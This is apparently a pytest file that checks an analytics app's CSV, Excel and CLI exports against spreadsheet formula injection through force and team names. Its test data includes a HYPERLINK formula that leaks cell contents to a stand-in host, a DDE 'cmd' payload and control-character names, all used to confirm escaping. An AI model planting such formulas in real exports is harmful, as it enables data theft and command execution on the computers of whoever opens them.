"""Issue 15 item 3, attacked the same way: forces and teams named as spreadsheet formulas.

An export whose force and team names are formulas (``=HYPERLINK(...)``, ``@SUM(1+1)``,
``-2+3``, ``+cmd``, tab + ``=1``) is written through every writer the app and the CLI use:
the CSV and Excel downloads (``present.export`` via ``ui.downloads``), the funnel download and
``python -m metrics kpis --format csv``. Read back, no cell may start with a formula character
unescaped and openpyxl must see no formula; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from metrics.safe_csv import FORMULA_PREFIXES, is_dangerous, safe_cell, safe_frame, write_csv
from present import export

REPO = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "@SUM(1+1)", "-2+3", "+cmd",
            "\t=1"]
START, END = "2026-01", "2026-03"


def _unsafe(cell: object) -> bool:
    """A cell a spreadsheet would run: text starting with = + - @ tab CR, not a plain number."""
    return isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES) and \
        not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_csv_safe(text: str) -> None:
    rows = _csv_cells(text)
    bad = [cell for row in rows for cell in row if _unsafe(cell)]
    assert not bad, bad[:5]


def _assert_xlsx_safe(data: bytes) -> list:
    """No formula anywhere (openpyxl and the raw sheet XML); returns every cell value."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_dangerous(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                values.append(cell.value)
    return values


@pytest.fixture(scope="module")
def hostile_export(small_export: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small synthetic export with five forces and five teams renamed to the payloads."""
    target = tmp_path_factory.mktemp("hostile") / "export"
    shutil.copytree(small_export, target)
    forces = pq.read_table(target / "forces.parquet").column("force").to_pylist()
    force_map = dict(zip(forces[:len(PAYLOADS)], PAYLOADS, strict=True))
    teams = pc.unique(pq.read_table(target / "cases.parquet").column("team")
                      .cast(pa.string())).to_pylist()
    teams = [t for t in teams if t]
    team_map = {t: f"{p} team" if p.startswith("\t") else p + " " + t
                for t, p in zip(teams[:len(PAYLOADS)], PAYLOADS, strict=True)}
    for path in target.glob("*.parquet"):
        table = pq.read_table(path)
        for col, mapping in (("force", force_map), ("team", team_map)):
            if col not in table.column_names:
                continue
            field = table.schema.field(col)
            values = [mapping.get(v, v) for v in table.column(col).cast(pa.string()).to_pylist()]
            array = pa.array(values, pa.string())
            if pa.types.is_dictionary(field.type):
                array = array.dictionary_encode()
            table = table.set_column(table.column_names.index(col), field.with_type(array.type),
                                     array)
        pq.write_table(table, path)
    return target


@pytest.fixture(scope="module")
def dataset(hostile_export: Path):
    from metrics.load import load_dataset

    ds = load_dataset(hostile_export)
    assert ds.report.usable, ds.report.errors
    assert set(PAYLOADS) <= set(ds.forces)
    return ds


@pytest.fixture(scope="module")
def kpi_table(dataset) -> pd.DataFrame:
    from metrics.kpis import compute_kpis

    return compute_kpis(dataset, START, END)


def test_safe_cell_neutralises_each_payload_and_leaves_numbers_alone() -> None:
    for payload in PAYLOADS + ["\r=1", "=1+1", "+44 20 7946 0000", "-x"]:
        assert safe_cell(payload) == "'" + payload
        assert not _unsafe(safe_cell(payload))
    for value in (-0.05, -5, 0.0, None, "-5", "+0.25", "-1.5e-3", "Durham", "", "'=x"):
        assert safe_cell(value) == value
    frame = safe_frame(pd.DataFrame({"team": pd.Categorical(["=1", "a"]), "v": [-0.05, 1.0]}))
    assert frame["team"].tolist() == ["'=1", "a"]
    assert frame["v"].dtype == "float64" and frame["v"].iloc[0] == -0.05


def test_csv_download_of_the_kpi_table_has_no_live_formula(dataset, kpi_table) -> None:
    about = export.ExportAbout(title="KPIs", force=PAYLOADS[0], start=START, end=END,
                               as_at=dataset.as_at)
    text = export.to_csv_bytes(kpi_table, about).decode("utf-8")
    _assert_csv_safe(text)
    back = export.read_csv_download(text.encode())
    for payload in PAYLOADS:
        assert (back["force"] == "'" + payload).any(), payload  # there, escaped
    assert export.csv_header(text.encode())["Force"].startswith("=HYPERLINK")  # inside "#..."
    numbers = back[back["status"] == "ok"]["value"]
    assert pd.api.types.is_float_dtype(numbers)


def test_csv_and_excel_of_a_team_breakdown_have_no_live_formula(dataset) -> None:
    from metrics.breakdowns import compute_breakdown

    cases = dataset.get("cases")
    force = str(cases[cases["team"].astype(str).str.startswith(
        tuple(p[:2] for p in PAYLOADS))]["force"].iloc[0])
    table = compute_breakdown(dataset, START, END, "team", force=force,
                              kpi_ids=["charge_rate"])
    assert table["group"].astype(str).map(is_dangerous).any()
    about = export.ExportAbout(title="Charge rate by team", force=force, start=START, end=END,
                               kpi="charge_rate: Charge rate")
    _assert_csv_safe(export.to_csv_bytes(table, about).decode("utf-8"))
    values = _assert_xlsx_safe(export.to_excel_bytes(table, about, name="=by team"))
    assert any(isinstance(v, str) and v.startswith(("=", "@", "-", "+", "\t")) for v in values)


def test_excel_download_stores_payloads_as_text_never_formulas(kpi_table) -> None:
    about = export.ExportAbout(title="=cmd|' /C calc'!A0", force=PAYLOADS[0], start=START,
                               end=END)
    data = export.to_excel_bytes(kpi_table, about, name="@SUM(A1)")
    values = _assert_xlsx_safe(data)
    for payload in PAYLOADS:
        assert payload in values, payload  # the name is shown as it is, as text
    back = pd.read_excel(io.BytesIO(data), sheet_name=0)
    assert pd.api.types.is_float_dtype(back["value"])


def test_negative_numbers_stay_numbers_in_csv_and_excel() -> None:
    table = pd.DataFrame({"kpi_id": ["charge_rate", "days_to_charge"], "force": ["-2+3", "A"],
                          "difference": [-0.05, -3.5], "value": [0.2, 40.0], "n": [40, 50]})
    back = export.read_csv_download(export.to_csv_bytes(table))
    assert back["difference"].tolist() == [-0.05, -3.5]
    assert back["force"].tolist() == ["'-2+3", "A"]
    wb = load_workbook(io.BytesIO(export.to_excel_bytes(table)))
    ws = wb.worksheets[0]
    head = [c.value for c in ws[1]]
    diff = [ws.cell(row=r, column=head.index("difference") + 1).value for r in (2, 3)]
    assert diff == [-0.05, -3.5]
    assert ws.cell(row=2, column=head.index("force") + 1).data_type == "s"


def test_funnel_download_with_formula_forces_is_safe(dataset) -> None:
    from metrics.verdicts import funnel_table

    placed = funnel_table(dataset, "charge_rate", "2025-10", "2026-09")  # a year: forces on it
    table = export.funnel_download(placed, "charge_rate")
    assert set(PAYLOADS) & set(table["force"])
    _assert_csv_safe(export.to_csv_bytes(table).decode("utf-8"))
    _assert_xlsx_safe(export.to_excel_bytes(table))


def test_kpis_cli_csv_has_no_live_formula(hostile_export: Path, capsys) -> None:
    from metrics.__main__ import main

    code = main(["kpis", str(hostile_export), "--from", START, "--to", END, "--format", "csv"])
    out = capsys.readouterr().out
    assert code == 0
    _assert_csv_safe(out)
    back = pd.read_csv(io.StringIO(out))
    for payload in PAYLOADS:
        assert (back["force"] == "'" + payload).any(), payload
    assert pd.api.types.is_float_dtype(back["value"])


def test_write_csv_header_lines_cannot_start_a_cell(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"a": ["=1"]}), path,
              header_lines=['force: x,=HYPERLINK("http://evil.example")', "line\r\n=2"])
    text = path.read_text(encoding="utf-8")
    rows = _csv_cells(text)
    assert [len(r) for r in rows[:2]] == [1, 1]  # each header line is one cell
    assert all(r[0].startswith("#") for r in rows[:2])
    assert rows[2:] == [["a"], ["'=1"]]
    _assert_csv_safe(text)


def test_breakdown_cli_csv_has_no_live_formula(hostile_export: Path, dataset, capsys) -> None:
    from metrics.__main__ import main
    cases = dataset.get("cases")
    force = str(cases[cases["team"].astype(str).map(is_dangerous)]["force"].iloc[0])
    code = main(["breakdown", str(hostile_export), "--kpi", "charge_rate", "--by", "team",
                 "--from", START, "--to", END, "--force", force, "--format", "csv"])
    out = capsys.readouterr().out
    assert code == 0, out
    _assert_csv_safe(out)
    groups = pd.read_csv(io.StringIO(out))["group"].astype(str)
    assert groups.str.startswith("'").any()  # the hostile team names are there, escaped


def test_every_csv_writer_under_metrics_neutralises_cells() -> None:
    """Each module of the core and the CLI that calls ``DataFrame.to_csv`` goes through a
    neutraliser (``metrics.safe_csv``, or a ``safe_frame``): a raw writer fails."""
    offenders = []
    for path in sorted((REPO / "metrics").rglob("*.py")):
        if path.name == "safe_csv.py":
            continue
        text = path.read_text(encoding="utf-8")
        if ".to_csv(" in text and "safe_frame(" not in text and "write_csv(" not in text:
            offenders.append(str(path.relative_to(REPO)))
    assert not offenders, "write CSV with metrics.safe_csv.write_csv: " + ", ".join(offenders)


@pytest.mark.parametrize("force, team", [
    ('=HYPERLINK("http://evil.example/?d="&A1,"x")', None),
    (None, "Team \u202eevil"),
    (None, "@SUM(1+1)"),
    (None, "T" * 201),
    (None, "Team\x07bell"),
])
def test_validation_warns_about_formula_control_and_overlong_names(tmp_path, force, team):
    """Issue 15 item 3: force, team and id values that a spreadsheet would run, that hide or
    reorder text, or that are too long are a warning (rows kept), naming no value."""
    import shutil

    import pyarrow.parquet as pq

    from metrics.load import load_dataset

    sample = Path(__file__).resolve().parents[2] / "data" / "sample"
    out = tmp_path / "export"
    shutil.copytree(sample, out)
    cases = pq.read_table(out / "cases.parquet").to_pandas()
    if force is not None:
        cases["force"] = cases["force"].astype(object).replace("Durham Constabulary", force)
    if team is not None:
        first = sorted(cases["team"].dropna().astype(str).unique())[0]
        cases["team"] = cases["team"].astype(object).replace(first, team)
    cases.to_parquet(out / "cases.parquet", index=False)
    report = load_dataset(out).report
    found = [p for p in report.warnings if p.rule == "suspicious_text"]
    assert found and found[0].file == "cases.parquet" and found[0].rows > 0
    assert found[0].column == ("force" if force is not None else "team")
    assert report.usable
    assert all((force or team) not in p.message for p in report.problems)


def test_the_sample_has_no_suspicious_names():
    from metrics.load import load_dataset

    sample = Path(__file__).resolve().parents[2] / "data" / "sample"
    assert not [p for p in load_dataset(sample).report.problems if p.rule == "suspicious_text"]
